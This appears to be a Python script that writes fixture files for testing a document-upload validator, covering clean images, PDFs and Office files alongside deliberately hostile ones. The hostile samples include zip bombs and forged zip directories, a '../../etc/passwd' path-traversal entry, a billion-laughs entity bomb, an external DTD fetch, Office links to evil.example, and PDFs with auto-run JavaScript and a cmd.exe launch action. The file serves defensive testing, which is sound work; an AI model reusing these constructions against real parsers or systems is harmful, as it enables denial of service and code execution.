#!/usr/bin/python3
"""Writes files for the tests of documents into a directory: good ones that no office is needed for, and bad ones.

    files.py DIRECTORY      (form.docx and form.pdf are there already: the bad ones are made from them)
"""

import struct
import sys
import zipfile
import zlib
from pathlib import Path

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def png_chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(data=png_chunk(b"IDAT", zlib.compress(b"\0\x80"))):
    """One grey dot."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + data + png_chunk(b"IEND", b"")


def jpeg_segment(marker, data):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg():
    """Grey: a thumbnail in a segment of its own, as cameras put it there, a frame, and a scan of two thousand bytes."""
    tables = jpeg_segment(0xDB, b"\0" + b"\1" * 64) + jpeg_segment(0xC4, b"\0\1" + b"\0" * 15 + b"\0")
    frame = jpeg_segment(0xC0, b"\x08\0\x08\0\x08\1\1\x11\0")
    scan = jpeg_segment(0xDA, b"\1\1\0\0\x3f\0") + b"\x55\xff\0\xff\xd0" * 400
    thumbnail = jpeg_segment(0xE1, b"Exif\0\0\xff\xd8\xff\xd9")
    return b"\xff\xd8" + jpeg_segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\0\0") + thumbnail + tables + frame + scan + b"\xff\xd9"


def pdf(objects, trailer=b""):
    """A PDF of these objects: enough for one who looks at names, and with its %%EOF."""
    body = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    for number, content in enumerate(objects, 1):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    return body + b"trailer << /Root 1 0 R " + trailer + b">>\nstartxref\n0\n%%EOF\n"


def object_stream(content, filters=b"/Filter /FlateDecode", pack=zlib.compress):
    packed = pack(content)
    return b"<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\r\n%s\nendstream" % (filters, len(packed), packed)


def package(path, content_type=DOCX_TYPE, types="", extra=(), relationships="", method=zipfile.ZIP_DEFLATED):
    """The least that is an Office document, with what is to be wrong with it."""
    main = "/word/document.xml"
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Default Extension="xml" ContentType="application/xml"/><Override PartName="{main}" ContentType="{content_type}"/>{types}</Types>',
        )
        archive.writestr(
            "word/_rels/document.xml.rels",
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relationships}</Relationships>',
        )
        archive.writestr("word/document.xml", "<document/>")
        for name, content in extra:
            archive.writestr(name, content)


def with_content_types(path, text):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", text)
        archive.writestr("word/document.xml", "<document/>")


def external(kind):
    address = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return f'<Relationship Id="r1" Type="{address}" Target="https://evil.example/x" TargetMode="External"/>'


def packages(folder):
    package(folder / "sheet.xlsx", XLSX_TYPE)
    package(folder / "linked.docx", relationships=external("hyperlink"))
    package(folder / "macros.docx", extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])
    package(folder / "macro_type.docx", "application/vnd.ms-word.document.macroEnabled.main+xml")
    package(folder / "embedded.docx", extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")])
    package(folder / "active.docx", extra=[("word/activeX/activeX1.xml", b"<ocx/>")])
    package(folder / "template.docx", relationships=external("attachedTemplate"))
    package(folder / "outside.docx", extra=[("../../etc/passwd", b"root")])
    package(folder / "bomb.docx", extra=[("word/media/zero.bin", b"\0" * 300_000_000)])
    package(folder / "ratio.docx", extra=[("word/media/zero.bin", b"\0" * 20_000_000)])
    package(folder / "many.docx", extra=[(f"word/{n}", b"") for n in range(3000)], method=zipfile.ZIP_STORED)
    package(folder / "other.zip", "application/octet-stream")
    with zipfile.ZipFile(folder / "plain.zip", "w") as archive:
        archive.writestr("readme.txt", "hello")
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    with_content_types(folder / "entities.docx", f'<!DOCTYPE t [<!ENTITY l0 "lol">{lol}]><Types>&l8;</Types>')
    with_content_types(folder / "fetch.docx", '<!DOCTYPE t SYSTEM "http://127.0.0.1:9/x.dtd"><Types/>')
    whole = (folder / "form.docx").read_bytes()
    (folder / "cut.docx").write_bytes(whole[: len(whole) // 2])
    zips(folder, whole)
    # Says of the bomb's entry that it is small: what is believed is checked where it is read.
    package(folder / "liar.docx", types=" " * 3_000_000)
    liar = bytearray((folder / "liar.docx").read_bytes())
    at = liar.find(b"PK\1\2")
    liar[at + 24 : at + 28] = struct.pack("<I", 1000)
    (folder / "liar.docx").write_bytes(liar)


def zip_end(count, size, start):
    return struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, size, start, 0)


def zips(folder, whole):
    """What a good document's central directory may be made to say."""
    end = whole.rindex(b"PK\5\6")
    count, size, start = struct.unpack("<HII", whole[end + 10 : end + 20])
    entries = whole[start:end]
    first = entries[: entries.index(b"PK\1\2", 4)]
    # The first entry 1,900 times: each would be read for itself.
    (folder / "overlapping.docx").write_bytes(whole[:end] + first * 1900 + zip_end(count + 1900, size + 1900 * len(first), start))
    (folder / "uncounted.docx").write_bytes(whole[:end] + first * 1900 + zip_end(count, size + 1900 * len(first), start))
    (folder / "countless.docx").write_bytes(whole[:end] + first * 60000 + zip_end(60000, size + 60000 * len(first), start))
    end64 = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, start)
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, end, 1)
    (folder / "zip64.docx").write_bytes(whole[:end] + end64 + locator + zip_end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF))


def pictures(folder):
    whole = jpeg()
    (folder / "photo.jpg").write_bytes(whole)
    (folder / "telephone.jpg").write_bytes(whole + b"a film of the moment before" * 100)
    (folder / "half.jpg").write_bytes(whole[: len(whole) // 2])
    (folder / "tiny.jpg").write_bytes(whole[:8])
    (folder / "no_scan.jpg").write_bytes(whole[: whole.index(b"\xff\xc0")] + b"\xff\xd9")
    whole = png()
    (folder / "dot.png").write_bytes(whole)
    (folder / "cropped.png").write_bytes(whole + b"what was cut away")
    (folder / "cut.png").write_bytes(whole[:-6])
    (folder / "half.png").write_bytes(whole[: len(whole) // 2])
    (folder / "bent.png").write_bytes(whole.replace(b"IDATx", b"IDATy"))
    (folder / "no_data.png").write_bytes(png(b""))


def pdfs(folder):
    catalogue = b"<< /Type /Catalog /OpenAction [3 0 R /XYZ null null 0] >>"
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    files = {
        "plain.pdf": pdf([catalogue]),
        "packed.pdf": pdf([catalogue, object_stream(b"5 0 << /Type /Page >>")]),
        "script.pdf": pdf([catalogue, script]),
        "escaped.pdf": pdf([catalogue, b"<< /S /J#61vaScr#69pt /JS (x) >>"]),
        "launch.pdf": pdf([b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>"]),
        "embedded.pdf": pdf([b"<< /Names << /EmbeddedFiles 2 0 R >> >>"]),
        "encrypted.pdf": pdf([catalogue], b"/Encrypt 9 0 R "),
        "hidden.pdf": pdf([catalogue, object_stream(b"5 0 " + script)]),
        "stored.pdf": pdf([catalogue, object_stream(b" obj \nendstream\n" * 20 + script, pack=lambda b: zlib.compress(b, 0))]),
        "untyped.pdf": pdf([catalogue, object_stream(b"5 0 " + script).replace(b"/Type /ObjStm", b"/Type 7 0 R")]),
        "twice_packed.pdf": pdf([catalogue, object_stream(b"5 0 " + script, b"/Filter [/ASCIIHexDecode /FlateDecode]")]),
        "inflating.pdf": pdf([catalogue, object_stream(b" " * 100_000_000)]),
        "broken_packing.pdf": pdf([catalogue, object_stream(b"5 0 x", pack=lambda b: b"not zlib at all")]),
        "no_end.pdf": pdf([catalogue])[:-7],
        "late.pdf": b"\n" + pdf([catalogue]),
    }
    for name, content in files.items():
        (folder / name).write_bytes(content)


def main(folder):
    pictures(folder)
    (folder / "empty.pdf").write_bytes(b"")
    (folder / "tiny.pdf").write_bytes(b"%PDF-")
    (folder / "program.pdf").write_bytes(b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"\0" * 4000)
    (folder / "text.pdf").write_bytes("这不是 PDF。".encode() * 100)
    pdfs(folder)
    packages(folder)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
